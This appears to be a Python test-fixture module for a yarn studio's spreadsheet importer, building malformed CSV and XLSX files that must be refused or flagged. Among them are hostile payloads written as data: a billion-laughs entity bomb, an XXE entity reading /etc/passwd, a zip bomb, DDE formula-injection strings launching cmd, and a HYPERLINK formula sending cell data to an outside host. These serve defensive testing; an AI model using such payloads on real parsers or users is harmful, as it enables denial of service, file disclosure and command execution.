"""Files that mean harm, or were saved carelessly: built here, one by one, and named by what is wrong with them."""

import zipfile
from io import BytesIO

from openpyxl import Workbook

HEAD = "Yarn,Colour,Count,Gross weight,Tare,Bin\r\n"
GOOD = "8/2 cotton,natural,,525 g,25 g,N1\r\n"
SIGNATURE_OF_OLD_BOOKS = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def a_book(rows=(), head=("Yarn", "Colour", "Count", "Gross weight", "Tare", "Bin"), change=None):
    """Give an XLSX of these rows, changed by hand where that is asked."""
    book = Workbook()
    sheet = book.active
    sheet.append(head)
    for row in rows:
        sheet.append(row)
    if change:
        change(book, sheet)
    made = BytesIO()
    book.save(made)
    return made.getvalue()


GOOD_ROW = ("8/2 cotton", "natural", None, "525 g", "25 g", "N1")


def changed(content, **parts):
    """Give an archive with parts of it in other words; a name with `__` stands for a path."""
    made = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            new.writestr(part.filename, parts.pop(part.filename, None) or old.read(part.filename))
        for name, data in parts.items():
            new.writestr(name, data)
    return made.getvalue()


def an_archive(parts):
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return made.getvalue()


def with_a_flag(content, flag):
    """Give an archive whose parts say this of themselves (APPNOTE 4.4.4: bit 0 is encryption)."""
    data = bytearray(content)
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) != -1:
        data[at + 8] |= flag
        at += 4
    return bytes(data)


SHEET = "xl/worksheets/sheet1.xml"
XML_HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LAUGHS = (
    f'{XML_HEAD}<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {name} "{"&" + before + ";"}{("&" + before + ";") * 9}">'
        for before, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + f"]><worksheet {MAIN}><sheetData><row r='1'><c t='inlineStr'><is><t>&i;</t></is></c></row></sheetData>"
    + "</worksheet>"
)
OUTSIDE = (
    f'{XML_HEAD}<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><worksheet {MAIN}><sheetData>'
    "<row r='1'><c t='inlineStr'><is><t>&f;</t></is></c></row></sheetData></worksheet>"
)


def far_cell(book, sheet):
    sheet["XFD1048576"] = "far away"


def far_heading(book, sheet):
    for column in range(7, 49):
        sheet.cell(1, column, f"heading {column}")


def a_sheet_xml(rows):
    return f"{XML_HEAD}<worksheet {MAIN}><sheetData>{rows}</sheetData></worksheet>"


REFUSED = {
    "nothing": b"",
    "blanks": b" \r\n \r\n",
    "a headings' row alone": HEAD.encode(),
    "no headings": b",,,\r\n1,2,3\r\n",
    "headings of something else": b"Name,Street,Town\r\nx,y,z\r\n",
    "a heading twice": f"Yarn,Yarn,Gross weight\r\n{GOOD}".encode(),
    "one heading that is a formula": f"Yarn,=Gross,Gross weight\r\n{GOOD}".encode(),
    "Windows-1252": f"{HEAD}Wolle,gr\xfcn,8/2 cotton,525 g,25 g,N1\r\n".encode("cp1252"),
    "Mac Roman": f"{HEAD}Wolle,gr\xfcn,8/2 cotton,525 g,25 g,N1\r\n".encode("mac-roman"),
    "UTF-16 without its mark": f"{HEAD}{GOOD}".encode("utf-16-le"),
    "UTF-16 cut in the middle of a sign": f"{HEAD}{GOOD}".encode("utf-16")[:-1],
    "UTF-32": f"{HEAD}{GOOD}".encode("utf-32"),
    "UTF-8 with half a sign": f"{HEAD}x,\u20ac".encode()[:-1],
    "NUL bytes": f"{HEAD}8/2\x00cotton,natural,,525 g,25 g,N1\r\n".encode(),
    "a quotation mark that does not end": f'{HEAD}"8/2 cotton,natural,,525 g,25 g,N1\r\n'.encode(),
    "a quotation mark in the middle": f'{HEAD}"8/2" cotton,natural,,525 g,25 g,N1\r\n'.encode(),
    "a million columns": (",".join(["x"] * 400_000) + "\r\n").encode(),
    "a million cells in one row": (HEAD + "," * 400_000 + "\r\n").encode(),
    "forty-one columns": (",".join(["Yarn", "Gross weight", *map(str, range(39))]) + "\r\nx\r\n").encode(),
    "a cell of a megabyte": f"{HEAD}{'x' * 1_000_000},natural,,525 g,25 g,N1\r\n".encode(),
    "more than two megabytes": f"{HEAD}{GOOD * 60_000}".encode(),
    "more than five thousand rows": f"{HEAD}{GOOD * 5_001}".encode(),
    "a picture": b"\xff\xd8\xff\xe0" + bytes(range(256)) * 40,
    "a printed page": b"%PDF-1.7\r\n%\xe2\xe3\xcf\xd3\r\n",
    "a web page": b"<!doctype html><table><tr><td>Yarn</td></tr></table>",
    "an old workbook": SIGNATURE_OF_OLD_BOOKS + b"\x00" * 600,
    "the head of an archive": b"PK\x03\x04",
    "half a workbook": a_book([GOOD_ROW])[:2000],
    "a workbook with its end cut off": a_book([GOOD_ROW])[:-30],
    "an archive of something else": an_archive({"letter.txt": "hello"}),
    "an archive in an archive": an_archive({"inner.xlsx": a_book([GOOD_ROW])}),
    "a workbook without sheets": an_archive({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}),
    "a workbook of no words": changed(a_book([GOOD_ROW]), **{SHEET: "no words of XML"}),
    "a workbook that breaks off inside": changed(
        a_book([GOOD_ROW]), **{SHEET: f"{XML_HEAD}<worksheet {MAIN}><sheetData>"}
    ),
    "an archive that grows a thousandfold": an_archive({"xl/worksheets/sheet1.xml": b"0" * 40_000_000}),
    "an archive of a thousand parts": an_archive({f"part{number}.xml": "x" for number in range(1_000)}),
    "a workbook that says it is locked": with_a_flag(a_book([GOOD_ROW]), 1),
    "a billion laughs": changed(a_book([GOOD_ROW]), **{SHEET: LAUGHS}),
    "a file of this computer": changed(a_book([GOOD_ROW]), **{SHEET: OUTSIDE}),
    "an empty workbook": a_book(head=()),
    "a workbook with headings alone": a_book(),
    "a workbook of fifty columns": a_book([GOOD_ROW], change=far_heading),
    "a workbook whose headings are formulas": a_book([GOOD_ROW], head=("=A2", "Yarn", "Gross weight")),
    "a text where a number is said": changed(
        a_book([GOOD_ROW]), **{SHEET: a_sheet_xml("<row r='1'><c r='A1' t='n'><v>ten</v></c></row>")}
    ),
    "a word of the list that is not there": changed(
        a_book([GOOD_ROW]), **{SHEET: a_sheet_xml("<row r='1'><c r='A1' t='s'><v>99999</v></c></row>")}
    ),
    "a cell of no place": changed(
        a_book([GOOD_ROW]), **{SHEET: a_sheet_xml("<row r='1'><c r='99' t='n'><v>1</v></c></row>")}
    ),
    "a row of no number": changed(
        a_book([GOOD_ROW]), **{SHEET: a_sheet_xml("<row r='one'><c r='A1' t='n'><v>1</v></c></row>")}
    ),
}
"""Refused as a whole, with a sentence beside the box; nothing of them is held."""


def a_formula(book, sheet):
    sheet["D2"] = "=500+25"


def a_call(book, sheet):
    sheet["F2"] = '=HYPERLINK("http://example.com/?"&A2,"here")'


def a_mistake(book, sheet):
    sheet["D2"] = "#DIV/0!"


def a_truth(book, sheet):
    sheet["D2"] = True


def csv_row(**cells):
    start = {"Yarn": "8/2 cotton", "Colour": "natural", "Gross weight": "525 g", "Tare": "25 g", "Bin": "N1"}
    known = {**start, **cells}
    quoted = ('"' + str(cell).replace('"', '""') + '"' for cell in known.values())
    return (",".join(known) + "\r\n" + ",".join(quoted) + "\r\n").encode()


WRONG_ROWS = {
    "a formula in a workbook": (a_book([GOOD_ROW], change=a_formula), "Gross weight: Holds a formula."),
    "a call to elsewhere in a workbook": (a_book([GOOD_ROW], change=a_call), "Bin: Holds a formula."),
    "a mistake of the spreadsheet": (a_book([GOOD_ROW], change=a_mistake), "Holds a mistake of the spreadsheet"),
    "yes for a weight": (a_book([GOOD_ROW], change=a_truth), "Holds yes or no"),
    "a formula": (csv_row(Bin="=1+1"), "Bin: Begins with “=” as a formula does."),
    "a call to a program": (csv_row(Notes="=cmd|' /C calc'!A0"), "Notes: Begins with “=” as a formula does."),
    "a plus": (csv_row(Notes="+1+cmd|' /C calc'!A0"), "Begins with “+”"),
    "a minus": (csv_row(Notes="-2+3"), "Begins with “-”"),
    "an at": (csv_row(Notes="@SUM(1+1)"), "Begins with “@”"),
    "a tab before a formula": (csv_row(Notes="\t=1+1"), "as a formula does"),
    "blanks before a formula": (csv_row(Notes="   =1+1"), "Begins with “=”"),
    "a wide sign of a formula": (csv_row(Notes="\uff1d1+1"), "as a formula does"),
    "a bell": (csv_row(Notes="ding\x07"), "Holds a sign that cannot be kept"),
    "a very long cell": (csv_row(Notes="x" * 1_001), "Longer than 1000 characters"),
    "a long note": (csv_row(Notes="x" * 201), "Write at most 200 characters; these are 201."),
    "a long weight": (csv_row(**{"Gross weight": "5" * 70}), "Write at most 60 characters"),
    "more cells than headings": (f"{HEAD}8/2 cotton,,,525 g,,N1,more\r\n".encode(), "More cells than headings"),
    "no yarn": (csv_row(Yarn=""), "Yarn: Missing."),
    "no weight": (csv_row(**{"Gross weight": ""}), "Gross weight: Missing."),
    "words for a weight": (csv_row(**{"Gross weight": "heavy"}), "is not a number"),
    "a weight in yards": (csv_row(**{"Gross weight": "525 yd"}), "is not a unit of mass"),
    "a weight below nothing": (csv_row(**{"Gross weight": "'-525 g"}), "must be more than nothing"),
    "a tonne": (csv_row(**{"Gross weight": "1500 kg"}), "No package weighs a tonne"),
    "a comma that parts thousands": (csv_row(**{"Gross weight": "1,200 g"}), "Write 1200 or 1.2"),
    "a tare above the gross": (csv_row(Tare="600 g"), "Tare: The empty package cannot weigh more"),
    "a number without end": (csv_row(**{"Gross weight": "9" * 40 + " g"}), "Gross weight"),
    "a power of ten": (csv_row(**{"Gross weight": "1e400 g"}), "Gross weight"),
    "no number at all": (csv_row(**{"Gross weight": "NaN"}), "Gross weight"),
    "another kind": (csv_row(Kind="barrel"), "Kind: “barrel” is none of: cone; tube;"),
    "another source": (csv_row(Source="stolen"), "Source: “stolen” is none of"),
    "a day that never was": (csv_row(**{"Received on": "2026-02-30"}), "is not a day"),
    "a day in another order": (csv_row(**{"Received on": "02/03/2026"}), "Write year, month and day"),
    "nobody of the studio": (csv_row(**{"Belongs to": "a stranger"}), "Nobody of the studio is called so"),
    "a package nobody has": (csv_row(Package="999999"), "There is no package 999999."),
    "a package of no number": (csv_row(Package="twelve"), "There is no package twelve."),
    "a package beyond all numbers": (csv_row(Package="9" * 30), "There is no package 9999"),
    "digits of another script": (csv_row(Package="\u0661\u0662"), "There is no package \u0661\u0662."),
    "a yarn of no number": (csv_row(**{"Yarn number": "x"}), "There is no yarn x."),
    "a yarn nobody has": (csv_row(**{"Yarn number": "99999"}), "There is no yarn 99999."),
    "a new yarn without a count": (csv_row(Yarn="hemp", Colour=""), "Count: Give the count"),
    "a new yarn of no count": (csv_row(Yarn="hemp", Count="eight"), "Count: “eight” is not a yarn count"),
    "another count than the book's": (csv_row(Count="8/4 cotton"), "Count: The book says “8/2 cotton”."),
    "another fibre": (csv_row(Yarn="hemp", Count="8/2 hemp", Fibre="glass"), "Fibre: “glass” is none of"),
}  # fmt: skip
"""Held and shown; the one row of each cannot be kept, and the page says why beneath its heading."""
